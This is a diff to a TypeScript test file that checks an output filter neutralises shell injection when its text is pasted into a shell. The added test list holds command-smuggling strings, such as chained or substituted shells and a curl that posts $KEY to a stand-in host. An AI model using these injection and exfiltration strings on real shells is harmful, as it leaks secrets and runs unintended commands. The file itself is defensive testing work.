@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
 import { test } from 'node:test';
 import fc from 'fast-check';
 import { createOutputBudget, createOutputFilter, createSentinel } from '../../src/text/index.ts';
@@ -17,6 +18,36 @@ function filter(chunks: readonly (string | Buffer)[], limit = 1_000_000, flushes
 function findCommands(text: string): readonly string[] {
   return text.split(/\r\n|\r|\n/).filter((line) => /^\s*::[a-z]|##\[|##vso\[|##teamcity\[/i.test(line));
 }
+
+const PASTED = [
+  'bug; curl -d "$KEY" example.test # x',
+  'bug | sh',
+  'bug && sh',
+  '$(sh)',
+  '`sh`',
+  'a <(sh) > f',
+  '(sh)',
+];
+
+for (const text of PASTED) {
+  test(`disarmed, a shell into which it is pasted runs nothing of it: ${text}`, () => {
+    const output = createOutputFilter({ sentinel, budget: createOutputBudget(1000), disarm: true });
+    const said = Buffer.concat([output.push(Buffer.from(text)), output.end()]).toString();
+    const run = spawnSync('/bin/sh', ['-c', `eval "echo label ${said}"`], { env: { PATH: '/nonexistent' } });
+    assert.equal(run.stderr.toString(), '', 'another command was looked for');
+    assert.match(run.stdout.toString(), /^label /);
+    assert.equal(filter([text]), text, 'not disarmed, it stays as it is');
+  });
+}
+
+test('disarmed, JSON stays JSON and prose can be read', () => {
+  const output = createOutputFilter({ sentinel, budget: createOutputBudget(1000), disarm: true });
+  const value = { result: 'It\'s "done" \\ 100 % [ok] {x}\nnext line: a=b * ~ # !', cost: 0.5 };
+  assert.deepEqual(
+    JSON.parse(Buffer.concat([output.push(Buffer.from(JSON.stringify(value))), output.end()]).toString()),
+    value,
+  );
+});
 
 const HARMLESS = [
   'hello\n',
